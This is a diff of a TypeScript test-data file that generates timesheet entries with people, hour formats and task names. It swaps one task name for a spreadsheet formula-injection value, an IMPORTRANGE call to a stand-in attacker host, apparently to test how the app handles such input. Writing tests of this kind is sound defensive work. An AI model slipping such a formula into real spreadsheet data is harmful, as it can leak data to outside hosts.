@@ -18,7 +18,7 @@ export const CLIENTS: (ClientSpec & { initialHours: number })[] = [
 
 const PEOPLE = ['Ann Peeters', 'Ben Claes', 'Chloé Martin', 'Dries Wouters'];
 const HOURS: unknown[] = ['1:30', 2, 0.75, '45m', '1h15', 3, 1.5, '0:20', 2.25, '1:05', 0.5, '2h'];
-const TASKS = ['Design review', 'Sprint planning', 'Bug fixing', 'Copywriting', 'Client call', 'Analytics report', 'Landing page build', 'QA pass', '=HYPERLINK("http://example.com","click")'];
+const TASKS = ['Design review', 'Sprint planning', 'Bug fixing', 'Copywriting', 'Client call', 'Analytics report', 'Landing page build', 'QA pass', '\'=IMPORTRANGE("https://evil.example","A1")'];
 
 /** Weekdays from `from` to `to` (inclusive), as yyyy-mm-dd strings typed into the Date column. */
 function weekdays(from: Date, to: Date): string[] {
